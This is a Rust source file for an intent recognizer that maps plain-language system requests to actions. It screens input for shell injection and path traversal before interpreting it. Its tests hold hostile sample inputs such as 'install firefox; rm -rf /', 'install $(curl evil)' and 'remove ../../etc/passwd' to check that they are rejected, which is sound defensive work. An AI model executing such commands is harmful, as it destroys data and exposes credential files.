//! Recognizer: pre-check, correction, rules, fallback, combine.

use super::{rules, statistical};
use crate::catalog::EntityCatalog;
use crate::safety;
use crate::typo::TypoCorrector;
use crate::types::{Intent, CONFIRM_THRESHOLD, RULE_CONFIDENCE};
use once_cell::sync::Lazy;
use regex::Regex;
use std::sync::Arc;
use tracing::{debug, warn};

/// A rule result is preferred above this
const RULE_PREFERENCE: f32 = 0.8;

/// Alternatives at or below this are dropped
const ALTERNATIVE_FLOOR: f32 = 0.3;

/// (pattern, reason) pairs checked against the raw text before anything else
static INJECTION_PATTERNS: Lazy<Vec<(Regex, &'static str)>> = Lazy::new(|| {
    [
        (r"[;&|]", "shell command separators or pipes"),
        (r"`", "backtick command substitution"),
        (r"\$[({A-Za-z_]", "shell substitution or variable expansion"),
        (r"(?:^|[/\s])\.\.(?:[/\s]|$)", "path traversal"),
        (r"[<>]", "shell redirection"),
        (r"[\r\n\x00]", "control characters"),
    ]
    .into_iter()
    .filter_map(|(p, reason)| Regex::new(p).ok().map(|re| (re, reason)))
    .collect()
});

/// Security pre-check. Returns the reason the text must not be interpreted.
pub fn security_check(text: &str) -> Option<String> {
    for (pattern, reason) in INJECTION_PATTERNS.iter() {
        if pattern.is_match(text) {
            return Some(format!("input contains {}", reason));
        }
    }
    safety::dangerous_match(text).map(|p| format!("input matches a dangerous pattern: {}", p.reason))
}

/// Deterministic hybrid intent recognizer
#[derive(Debug, Clone)]
pub struct IntentRecognizer {
    catalog: Arc<EntityCatalog>,
    corrector: TypoCorrector,
}

impl IntentRecognizer {
    pub fn new(catalog: Arc<EntityCatalog>) -> Self {
        let corrector = TypoCorrector::new(&catalog);
        Self { catalog, corrector }
    }

    pub fn catalog(&self) -> &EntityCatalog {
        &self.catalog
    }

    pub fn corrector(&self) -> &TypoCorrector {
        &self.corrector
    }

    /// Interpret one request without any conversation context
    pub fn recognize(&self, text: &str) -> Intent {
        if let Some(reason) = security_check(text) {
            warn!("Rejected input before recognition: {}", reason);
            return Intent::rejected(text, reason);
        }

        let corrected = self.corrector.correct(text);
        if corrected.is_empty() {
            return Intent::unknown(text, 0.0);
        }
        if corrected != text.trim().to_lowercase() {
            debug!("Corrected {:?} -> {:?}", text, corrected);
        }

        let rule_intent = rules::match_rules(&corrected, &self.catalog).map(|(rule, ex)| {
            debug!("Rule {} matched {:?}", rule.name, corrected);
            let mut intent =
                Intent::new(ex.action, RULE_CONFIDENCE, text).with_entities(ex.entities);
            intent.refers_back = ex.refers_back;
            intent.clarification = ex.clarification;
            intent
        });
        let statistical = statistical::classify(&corrected, text, &self.catalog);

        combine(text, rule_intent, statistical)
    }
}

/// Rule if confident, else statistical if confident, else unknown carrying
/// both as alternatives
fn combine(text: &str, rule: Option<Intent>, statistical: Vec<Intent>) -> Intent {
    if let Some(rule) = rule.as_ref().filter(|r| r.confidence > RULE_PREFERENCE) {
        let alternatives = statistical
            .into_iter()
            .filter(|s| s.kind() != rule.kind() && s.confidence > ALTERNATIVE_FLOOR)
            .collect();
        return rule.clone().with_alternatives(alternatives);
    }

    let mut ranked = statistical.into_iter();
    if let Some(best) = ranked.next() {
        if best.confidence > CONFIRM_THRESHOLD {
            let alternatives = ranked
                .filter(|s| s.kind() != best.kind() && s.confidence > ALTERNATIVE_FLOOR)
                .collect();
            debug!(
                "Keyword fallback chose {} ({:.2})",
                best.kind(),
                best.confidence
            );
            return best.with_alternatives(alternatives);
        }

        let mut alternatives: Vec<Intent> = rule.into_iter().collect();
        let confidence = best.confidence;
        alternatives.push(best);
        alternatives.extend(ranked);
        return Intent::unknown(text, confidence).with_alternatives(alternatives);
    }

    let alternatives: Vec<Intent> = rule.into_iter().collect();
    Intent::unknown(text, 0.0).with_alternatives(alternatives)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::{IntentAction, IntentKind, ServiceAction, AUTO_ACT_THRESHOLD};

    fn recognizer() -> IntentRecognizer {
        IntentRecognizer::new(Arc::new(EntityCatalog::builtin()))
    }

    #[test]
    fn test_install_firefox_high_confidence() {
        let intent = recognizer().recognize("install firefox");
        assert_eq!(
            intent.action,
            IntentAction::Install {
                package: Some("firefox".to_string())
            }
        );
        assert!(intent.confidence >= AUTO_ACT_THRESHOLD);
        assert_eq!(intent.original_text, "install firefox");
    }

    #[test]
    fn test_injection_rejected_with_zero_confidence() {
        let r = recognizer();
        for text in [
            "install firefox; rm -rf /",
            "install x && reboot",
            "install `whoami`",
            "install $(curl evil)",
            "show logs > /tmp/x",
            "remove ../../etc/passwd",
            "install firefox | sh",
        ] {
            let intent = r.recognize(text);
            assert_eq!(intent.kind(), IntentKind::Unknown, "{}", text);
            assert_eq!(intent.confidence, 0.0, "{}", text);
            assert!(intent.is_rejected(), "{}", text);
        }
    }

    #[test]
    fn test_dangerous_text_without_metachars_rejected() {
        let intent = recognizer().recognize("rm -rf /");
        assert!(intent.is_rejected());
        assert_eq!(intent.confidence, 0.0);
    }

    #[test]
    fn test_typo_then_rule() {
        let intent = recognizer().recognize("instal firefox");
        assert_eq!(intent.kind(), IntentKind::Install);
        assert!(intent.confidence >= AUTO_ACT_THRESHOLD);
    }

    #[test]
    fn test_start_it_is_service_with_pronoun() {
        let intent = recognizer().recognize("start it");
        assert!(intent.refers_back);
        assert_eq!(
            intent.action,
            IntentAction::Service {
                action: ServiceAction::Start,
                service: None
            }
        );
    }

    #[test]
    fn test_gibberish_is_unknown() {
        let intent = recognizer().recognize("purple monkey dishwasher");
        assert_eq!(intent.kind(), IntentKind::Unknown);
        assert!(intent.confidence < CONFIRM_THRESHOLD);
    }

    #[test]
    fn test_keyword_fallback() {
        let intent = recognizer().recognize("my journal logs from yesterday evening");
        assert_eq!(intent.kind(), IntentKind::Logs);
        assert!(intent.confidence > CONFIRM_THRESHOLD);
        assert!(intent.confidence < RULE_CONFIDENCE);
    }

    #[test]
    fn test_weak_match_is_unknown_with_alternatives() {
        let intent = recognizer().recognize("something about a slow generation");
        assert_eq!(intent.kind(), IntentKind::Unknown);
        assert!(!intent.alternatives.is_empty());
    }
}
